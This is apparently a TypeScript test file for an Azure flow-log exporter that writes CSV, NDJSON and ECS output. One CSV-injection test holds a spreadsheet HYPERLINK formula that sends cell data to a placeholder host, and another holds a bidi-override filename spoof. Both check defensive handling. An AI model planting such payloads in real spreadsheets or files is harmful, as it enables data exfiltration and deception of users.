import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { joinConnections } from '../../../src/flowlogs/connections';
import { csvField, csvHeader, ecsMac, exportConnections, exportRows, rowColumns, rowToCsv, rowToEcs, rowToEcsObject, rowToNdjson } from '../../../src/flowlogs/exporters';
import { decodeFlowLogBytes } from '../../../src/flowlogs/flowLogDecoder';
import type { FlowTable } from '../../../src/flowlogs/flowTable';
import { generateFlowLog } from '../../fixtures/flowLogGenerator';
import { projectRoot } from '../../fixtures/projectRoot';
import { buildAddressOwners, flowOwners } from '../../../src/flowlogs/addressOwners';

function table(rule: string, tuples: string[]): FlowTable {
  const record = `{"time":"2018-11-13T12:00:35.3899262Z","category":"NetworkSecurityGroupFlowEvent","resourceId":"/SUBSCRIPTIONS/AAAA0A0A-BB1B/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/WEB-NSG","operationName":"NetworkSecurityGroupFlowEvents","properties":{"Version":2,"flows":[{"rule":${JSON.stringify(rule)},"flows":[{"mac":"000D3AF87856","flowTuples":${JSON.stringify(tuples)}}]}]}}`;
  const result = decodeFlowLogBytes(Buffer.from(`{"records":[${record}]}`));
  // Some tests put tuples of other years under this record time: only that warning is expected.
  assert.deepEqual(result.problems.filter((problem) => problem.code !== 'tuple-time'), []);
  return result.table;
}

function vnetTable(tuples: string[]): FlowTable {
  const record = JSON.stringify({
    time: '2022-09-14T09:00:52.5625085Z',
    flowLogVersion: 4,
    macAddress: '00224871C205',
    category: 'FlowLogFlowEvent',
    flowLogResourceID: '/SUBSCRIPTIONS/0000/RESOURCEGROUPS/NETWORKWATCHERRG/PROVIDERS/MICROSOFT.NETWORK/NETWORKWATCHERS/NW/FLOWLOGS/FL',
    targetResourceID: '/subscriptions/0000/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet',
    operationName: 'FlowLogFlowEvent',
    flowRecords: { flows: [{ aclID: 'acl-7', flowGroups: [{ rule: 'Internet_4b9ac3d8', flowTuples: tuples }] }] },
  });
  return decodeFlowLogBytes(Buffer.from(`{"records":[${record}]}`)).table;
}

async function collect(run: (write: (chunk: Uint8Array) => void) => Promise<number>): Promise<{ text: string; count: number }> {
  const chunks: Uint8Array[] = [];
  const count = await run((chunk) => {
    chunks.push(chunk);
  });
  return { text: Buffer.concat(chunks).toString('utf8'), count };
}

/** Minimal RFC 4180 reader for checking our output. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return records;
}

describe('exporters', () => {
  it('writes MACs as ECS does: upper-case octets joined by hyphens', () => {
    assert.equal(ecsMac('000d3af87856'), '00-0D-3A-F8-78-56');
    assert.equal(ecsMac('not-a-mac'), 'not-a-mac');
  });

  it('quotes CSV fields with commas, quotes and line breaks (RFC 4180)', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField(undefined), '');
    assert.equal(csvField(0), '0');
  });

  it('neutralises CSV cells a spreadsheet would read as a formula (OWASP CSV Injection), numbers excepted', async () => {
    assert.equal(csvField('=1+2'), `"'=1+2"`);
    assert.equal(csvField('+1'), `"'+1"`);
    assert.equal(csvField('-1'), `"'-1"`);
    assert.equal(csvField('@SUM(A1)'), `"'@SUM(A1)"`);
    assert.equal(csvField('\tx'), `"'\tx"`);
    assert.equal(csvField('\rx'), `"'\rx"`);
    assert.equal(csvField('=1+2";=1+2'), `"'=1+2"";=1+2"`);
    assert.equal(csvField('a=b'), 'a=b');
    assert.equal(csvField(-1), '-1');
    const rule = '=HYPERLINK("http://example.invalid/?"&A1,"x")';
    const flows = table(rule, ['1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,B,,,,']);
    const [header, row] = parseCsv((await collect((write) => exportRows(flows, [0], 'csv', write))).text);
    assert.equal(row[header.indexOf('rule')], `'${rule}`);
    const ecs = JSON.parse((await collect((write) => exportRows(flows, [0], 'ecs', write))).text) as { rule: { name: string } };
    assert.equal(ecs.rule.name, rule, 'JSON exports keep the value as logged');
  });

  it('escapes U+2028 and U+2029 in NDJSON and ECS lines, which some readers take for line ends', async () => {
    const rule = 'UserRule_a\u2028b\u2029c';
    const flows = table(rule, ['1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,B,,,,']);
    for (const format of ['ndjson', 'ecs'] as const) {
      const { text } = await collect((write) => exportRows(flows, [0], format, write));
      assert.ok(!/[\u2028\u2029]/.test(text), format);
      assert.ok(text.includes('a\\u2028b\\u2029c'), format);
      assert.equal(text.split('\n').length, 2, format);
      const parsed = JSON.parse(text) as { rule: string | { name: string } };
      assert.equal(typeof parsed.rule === 'string' ? parsed.rule : parsed.rule.name, rule, format);
    }
    assert.equal(rowToNdjson(flows.rowAt(0)), (await collect((write) => exportRows(flows, [0], 'ndjson', write))).text);
  });

  it('writes CSV with a header, ISO-8601 UTC times, empty cells for absent counters and a rule with a comma and quotes', async () => {
    const rule = 'UserRule_allow, "quoted" dns';
    const flows = table(rule, ['1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,B,,,,', '1542110379,10.5.16.4,203.0.113.117,59932,53,U,O,A,E,1,0,1,66']);
    const { text, count } = await collect((write) => exportRows(flows, [0, 1], 'csv', write));
    assert.equal(count, 2);
    const [header, first, second] = parseCsv(text);
    const at = (name: string) => header.indexOf(name);
    assert.equal(first[at('time')], '2018-11-13T11:59:37.000Z');
    assert.equal(first[at('rule')], rule);
    assert.equal(first[at('packetsSrcToDst')], '');
    assert.equal(first[at('state')], 'begin');
    assert.equal(second[at('protocol')], '17');
    assert.equal(second[at('transport')], 'udp');
    assert.equal(second[at('bytesSrcToDst')], '0');
    assert.equal(second[at('bytesDstToSrc')], '66');
    assert.equal(second[at('recordTime')], '2018-11-13T12:00:35.3899262Z');
    assert.equal(second[at('tupleIndex')], '1');
    assert.equal(header.length, first.length);
  });

  it('exports every row exactly as the per-row functions write it', async () => {
    for (const format of ['nsg1', 'nsg2', 'vnet'] as const) {
      const flows = decodeFlowLogBytes(Buffer.from(generateFlowLog({ format, records: 12, flowsPerRecord: 6, seed: 21, ipv6: true }))).table;
      const all = Array.from({ length: flows.length }, (_, i) => i);
      const csv = await collect((write) => exportRows(flows, all, 'csv', write));
      assert.equal(csv.text, csvHeader(rowColumns) + all.map((row) => rowToCsv(flows.rowAt(row))).join(''));
      const ndjson = await collect((write) => exportRows(flows, all, 'ndjson', write));
      assert.equal(ndjson.text, all.map((row) => rowToNdjson(flows.rowAt(row))).join(''));
      assert.equal(ndjson.count, flows.length);
      const ecs = await collect((write) => exportRows(flows, all, 'ecs', write));
      assert.equal(ecs.text, all.map((row) => rowToEcs(flows.rowAt(row))).join(''));
    }
  });

  it('writes rows byte for byte as rowToEcs, rowToNdjson and rowToCsv do, with counters past 2^32 and text outside ASCII', async () => {
    const flows = table('UserRule_größe\u2028', ['1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,C,5000000000,12345678901,0,1', '1542110379,10.5.16.4,10.5.16.4,0,53,U,I,D,B,,,,']);
    const { text } = await collect((write) => exportRows(flows, [0, 1], 'ecs', write));
    assert.equal(text, rowToEcs(flows.rowAt(0)) + rowToEcs(flows.rowAt(1)));
    assert.equal((JSON.parse(text.split('\n')[0]) as { source: { packets: number } }).source.packets, 5000000000);
    const ndjson = await collect((write) => exportRows(flows, [0, 1], 'ndjson', write));
    assert.equal(ndjson.text, rowToNdjson(flows.rowAt(0)) + rowToNdjson(flows.rowAt(1)));
    const csv = await collect((write) => exportRows(flows, [0, 1], 'csv', write, { header: false }));
    assert.equal(csv.text, rowToCsv(flows.rowAt(0)) + rowToCsv(flows.rowAt(1)));
  });

  it('writes times at the edges of a second and counters around 2^31 as the per-row functions do', async () => {
    const flows = vnetTable([
      '1663146000000,10.0.0.6,52.239.184.180,23956,443,6,O,B,NX,0,0,0,0',
      '1663146009005,10.0.0.6,52.239.184.180,23956,443,6,O,C,NX,2147483647,2147483648,1,65535',
      '1663146059050,10.0.0.6,52.239.184.180,23956,443,6,O,C,NX,9,99,999,9999',
      '1663146059999,10.0.0.6,52.239.184.180,23956,443,6,O,E,NX,100000,1000000,10000000,4294967295',
    ]);
    const all = [0, 1, 2, 3];
    assert.equal((await collect((write) => exportRows(flows, all, 'ecs', write))).text, all.map((row) => rowToEcs(flows.rowAt(row))).join(''));
    const ndjson = (await collect((write) => exportRows(flows, all, 'ndjson', write))).text;
    assert.equal(ndjson, all.map((row) => rowToNdjson(flows.rowAt(row))).join(''));
    assert.deepEqual(
      ndjson
        .trim()
        .split('\n')
        .map((line) => (JSON.parse(line) as { time: string }).time),
      ['2022-09-14T09:00:00.000Z', '2022-09-14T09:00:09.005Z', '2022-09-14T09:00:59.050Z', '2022-09-14T09:00:59.999Z'],
    );
    assert.equal((await collect((write) => exportRows(flows, all, 'csv', write, { header: false }))).text, all.map((row) => rowToCsv(flows.rowAt(row))).join(''));
  });

  it('exports a value with bidirectional control characters raw, as the log has it', async () => {
    const rule = 'UserRule_invoice\u202Egnp.exe\u2066x\u2069';
    const flows = table(rule, ['1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,B,,,,']);
    const [header, row] = parseCsv((await collect((write) => exportRows(flows, [0], 'csv', write))).text);
    assert.equal(row[header.indexOf('rule')], rule);
    const ndjson = JSON.parse((await collect((write) => exportRows(flows, [0], 'ndjson', write))).text) as Record<string, unknown>;
    assert.equal(ndjson.rule, rule);
    assert.equal((rowToEcsObject(flows.rowAt(0)).rule as { name: string }).name, rule);
  });

  it('writes no header when asked', async () => {
    const flows = table('R', ['1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,B,,,,']);
    const { text } = await collect((write) => exportRows(flows, [0], 'csv', write, { header: false }));
    assert.ok(text.startsWith('2018-11-13T11:59:37.000Z,'));
  });

  it('writes NDJSON with every row field flattened, context included, absent counters left out', async () => {
    const flows = vnetTable(['1663146003606,10.0.0.6,52.239.184.180,23956,443,6,O,E,NX,3,767,2,1580', '1663146003599,10.0.0.6,52.239.184.180,23956,443,6,O,B,NX,,,,']);
    const { text } = await collect((write) => exportRows(flows, [0, 1], 'ndjson', write));
    const lines = text.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    assert.equal(lines.length, 2);
    assert.equal(lines[0].time, '2022-09-14T09:00:03.606Z');
    assert.equal(lines[0].timeMs, 1663146003606);
    assert.equal(lines[0].bytesDstToSrc, 1580);
    assert.equal(lines[0].encryption, 'NX');
    assert.equal(lines[0].aclId, 'acl-7');
    assert.equal(lines[0].targetResourceId, '/subscriptions/0000/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet');
    assert.equal(lines[0].recordIndex, 0);
    assert.equal('packetsSrcToDst' in lines[1], false);
  });

  it('writes ECS events with the field names SIEMs expect', () => {
    const flows = vnetTable(['1663146003606,10.0.0.6,52.239.184.180,23956,443,6,O,E,NX,3,767,2,1580', '1663145998065,101.33.218.153,10.0.0.6,55188,22,6,I,D,NX,0,0,0,0']);
    const allowed = rowToEcsObject(flows.rowAt(0)) as Record<string, Record<string, unknown>>;
    assert.equal(allowed['@timestamp'], '2022-09-14T09:00:03.606Z');
    assert.deepEqual(allowed.source, { ip: '10.0.0.6', port: 23956, mac: '00-22-48-71-C2-05', packets: 3, bytes: 767 }, 'outbound: the logging NIC is the source');
    assert.deepEqual(allowed.destination, { ip: '52.239.184.180', port: 443, packets: 2, bytes: 1580 });
    assert.deepEqual(allowed.related, { ip: ['10.0.0.6', '52.239.184.180'] });
    assert.equal(allowed.event.code, 'FlowLogFlowEvent');
    assert.equal(allowed.network.transport, 'tcp');
    assert.equal(allowed.network.iana_number, '6');
    assert.equal(allowed.network.direction, 'egress');
    assert.equal(allowed.network.bytes, 2347);
    assert.equal(allowed.network.packets, 5);
    assert.deepEqual(allowed.event.category, ['network']);
    assert.deepEqual(allowed.event.type, ['connection', 'allowed', 'end']);
    assert.equal(allowed.event.action, 'flow_ended');
    assert.equal(allowed.event.outcome, 'success');
    assert.deepEqual(allowed.rule, { name: 'Internet_4b9ac3d8' });
    assert.equal(allowed.cloud.provider, 'azure');
    const flowlog = (allowed.azure as unknown as { flowlog: Record<string, unknown> }).flowlog;
    assert.equal(flowlog.mac, '00224871C205');
    assert.equal(flowlog.state, 'E');
    assert.equal(flowlog.encryption, 'NX');
    assert.equal(flowlog.acl_id, 'acl-7');
    assert.equal(flowlog.flow_log_id, '/SUBSCRIPTIONS/0000/RESOURCEGROUPS/NETWORKWATCHERRG/PROVIDERS/MICROSOFT.NETWORK/NETWORKWATCHERS/NW/FLOWLOGS/FL');
    const denied = rowToEcsObject(flows.rowAt(1)) as Record<string, Record<string, unknown>>;
    assert.equal(denied.network.direction, 'ingress');
    assert.deepEqual(denied.event.type, ['connection', 'denied']);
    assert.equal(denied.destination.mac, '00-22-48-71-C2-05', 'inbound: the logging NIC is the destination');
    assert.equal('mac' in denied.source, false);
    const begin = rowToEcsObject(table('R', ['1542110377,10.5.16.4,10.5.16.4,59831,443,T,O,A,B,,,,']).rowAt(0)) as Record<string, Record<string, unknown>>;
    assert.deepEqual(begin.event.type, ['connection', 'allowed', 'start']);
    assert.equal(begin.event.code, 'NetworkSecurityGroupFlowEvents');
    assert.deepEqual(begin.related, { ip: ['10.5.16.4'] }, 'one address listed once');
    assert.equal(begin.source.mac, '00-0D-3A-F8-78-56');
    assert.equal(denied.event.action, 'flow_denied');
  });

  it("writes each record's operationName, systemId and flowLogGUID from Microsoft's samples, the same on both ECS paths", async () => {
    const samples = [
      ['nsg-flow-logs-overview.v2-sample.json', 'NetworkSecurityGroupFlowEvents', { system_id: '66aa66aa-bb77-cc88-dd99-00ee00ee00ee' }],
      ['flow-logs-read.nsg-v1-block.json', 'NetworkSecurityGroupFlowEvents', { system_id: '5f4d02d3-a7d0-4ed4-9ce8-c0ae9377951c' }],
      ['vnet-flow-logs-overview.sample.json', 'FlowLogFlowEvent', { flow_log_guid: 'abcdef01-2345-6789-0abc-def012345678' }],
      ['flow-logs-read.vnet-block-record.json', 'FlowLogFlowEvent', { flow_log_guid: 'c4de7bdb-291a-4315-84c2-ba1ecd0296dd' }],
    ] as const;
    for (const [name, code, guid] of samples) {
      const flows = decodeFlowLogBytes(readFileSync(join(projectRoot(), 'test/fixtures/samples', name))).table;
      const all = Array.from({ length: flows.length }, (_, i) => i);
      const { text } = await collect((write) => exportRows(flows, all, 'ecs', write));
      assert.equal(text, all.map((row) => rowToEcs(flows.rowAt(row))).join(''), name);
      const events = text.trimEnd().split('\n').map((line) => JSON.parse(line) as { event: { code?: string }; azure: { flowlog: Record<string, unknown> } });
      assert.equal(events.length, flows.length, name);
      for (const event of events) {
        assert.equal(event.event.code, code, name);
        const { flowlog } = event.azure;
        assert.deepEqual({ system_id: flowlog.system_id, flow_log_guid: flowlog.flow_log_guid }, { system_id: undefined, flow_log_guid: undefined, ...guid }, name);
      }
    }
  });

  it('leaves event.code, system_id and flow_log_guid out for a record without them', async () => {
    const withoutNsg = decodeFlowLogBytes(
      Buffer.from(
        '{"records":[{"time":"2018-11-13T12:00:35.3899262Z","category":"NetworkSecurityGroupFlowEvent","resourceId":"/SUBSCRIPTIONS/X/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG","properties":{"Version":2,"flows":[{"rule":"R","flows":[{"mac":"000D3AF87856","flowTuples":["1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,B,,,,"]}]}]}}]}',
      ),
    ).table;
    for (const flows of [withoutNsg, vnetTable(['1663146003599,10.0.0.6,52.239.184.180,23956,443,6,O,B,NX,,,,'])]) {
      const { text } = await collect((write) => exportRows(flows, [0], 'ecs', write));
      assert.equal(text, rowToEcs(flows.rowAt(0)));
      const event = JSON.parse(text) as { event: Record<string, unknown>; azure: { flowlog: Record<string, unknown> } };
      assert.equal('system_id' in event.azure.flowlog, false);
      assert.equal('flow_log_guid' in event.azure.flowlog, false);
      if (flows === withoutNsg) {
        assert.equal('code' in event.event, false);
      }
    }
  });

  it('exports joined connections with totals in each format', async () => {
    const flows = table('R', ['1708978215,203.0.113.105,10.0.0.5,35370,443,T,I,A,B,,,,', '1708978215,203.0.113.105,10.0.0.5,35370,443,T,I,A,C,1021,588096,8005,4610880', '1708978275,203.0.113.105,10.0.0.5,35370,443,T,I,A,E,52,29952,47,27072']);
    const connections = joinConnections(flows);
    const csv = parseCsv((await collect((write) => exportConnections(flows, connections, [0], 'csv', write))).text);
    const at = (name: string) => csv[0].indexOf(name);
    assert.equal(csv[1][at('packetsSrcToDst')], '1073');
    assert.equal(csv[1][at('bytesDstToSrc')], '4637952');
    assert.equal(csv[1][at('durationMs')], '60000');
    assert.equal(csv[1][at('tuples')], '3');
    const ecs = JSON.parse((await collect((write) => exportConnections(flows, connections, [0], 'ecs', write))).text) as Record<string, Record<string, unknown>>;
    assert.equal(ecs.network.packets, 9125);
    assert.equal(ecs.network.bytes, 5256000);
    assert.equal(ecs.event.duration, 60000 * 1e6);
    assert.equal(ecs.event.start, '2024-02-26T20:10:15.000Z');
    assert.equal(ecs.event.end, '2024-02-26T20:11:15.000Z');
    assert.deepEqual(ecs.event.type, ['connection', 'allowed', 'start', 'end']);
    assert.equal(ecs.destination.mac, '00-0D-3A-F8-78-56');
    const ndjson = JSON.parse((await collect((write) => exportConnections(flows, connections, [0], 'ndjson', write))).text) as Record<string, unknown>;
    assert.equal(ndjson.finalState, 'end');
  });
});

describe('exports with the NICs the inventory knows', () => {
  const owners = buildAddressOwners([
    { name: 'nic-web-01', macAddress: '00-22-48-71-C2-05', privateIpAddresses: ['10.0.0.6'], virtualMachineName: 'vm-web-01' },
    { name: 'nic-db-01', privateIpAddresses: ['10.0.0.9'] },
  ]);
  // Outbound from the logged NIC (MAC 00224871C205) to the database NIC, then to the internet.
  const tuples = ['1663146003599,10.0.0.6,10.0.0.9,23956,1433,6,O,B,NX,0,0,0,0', '1663146003606,10.0.0.6,52.239.184.180,23956,443,6,O,B,NX,0,0,0,0'];

  it('adds srcOwner and dstOwner columns to CSV, empty where unknown', async () => {
    const { text } = await collect((write) => exportRows(vnetTable(tuples), [0, 1], 'csv', write, { owners }));
    const [header, first, second] = parseCsv(text);
    assert.deepEqual(header.slice(-2), ['srcOwner', 'dstOwner']);
    assert.deepEqual(first.slice(-2), ['nic-web-01 (vm-web-01)', 'nic-db-01']);
    assert.deepEqual(second.slice(-2), ['nic-web-01 (vm-web-01)', '']);
    assert.equal(first.length, header.length);
  });

  it('adds them to NDJSON only where known', async () => {
    const { text } = await collect((write) => exportRows(vnetTable(tuples), [0, 1], 'ndjson', write, { owners }));
    const [first, second] = text.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    assert.equal(first.srcOwner, 'nic-web-01 (vm-web-01)');
    assert.equal(first.dstOwner, 'nic-db-01');
    assert.equal('dstOwner' in second, false);
  });

  it('writes ECS source.domain / destination.domain, host.name and the NIC names, as docs/ecs-mapping.md says', async () => {
    const { text } = await collect((write) => exportRows(vnetTable(tuples), [0, 1], 'ecs', write, { owners }));
    const [first, second] = text.trim().split('\n').map((line) => JSON.parse(line) as Record<string, Record<string, unknown>>);
    assert.equal(first.source.domain, 'vm-web-01');
    assert.equal(first.source.ip, '10.0.0.6');
    assert.equal(first.destination.domain, 'nic-db-01', 'a NIC without a VM is named by the NIC');
    assert.deepEqual(first.host, { name: 'vm-web-01' });
    const flowlog = (first.azure as { flowlog: Record<string, unknown> }).flowlog;
    assert.equal(flowlog.source_nic, 'nic-web-01');
    assert.equal(flowlog.destination_nic, 'nic-db-01');
    assert.equal(flowlog.mac, '00224871C205');
    assert.equal('domain' in second.destination, false);
    const rows = vnetTable(tuples);
    const expected = [0, 1].map((row) => {
      const flow = rows.rowAt(row);
      return rowToEcs(flow, { ...flowOwners(owners, { ...flow, mac: flow.context.mac }), logged: owners.byMac[flow.context.mac] });
    });
    assert.equal(text, expected.join(''), 'the fast path writes what rowToEcs writes');
  });

  it('adds them to connections too, and nothing without an inventory', async () => {
    const table = vnetTable(tuples);
    const { text } = await collect((write) => exportConnections(table, joinConnections(table), [0], 'csv', write, { owners }));
    assert.deepEqual(parseCsv(text)[0].slice(-2), ['srcOwner', 'dstOwner']);
    const { text: plain } = await collect((write) => exportRows(table, [0], 'csv', write, { owners: buildAddressOwners([]) }));
    assert.equal(parseCsv(plain)[0].includes('srcOwner'), false);
  });
});
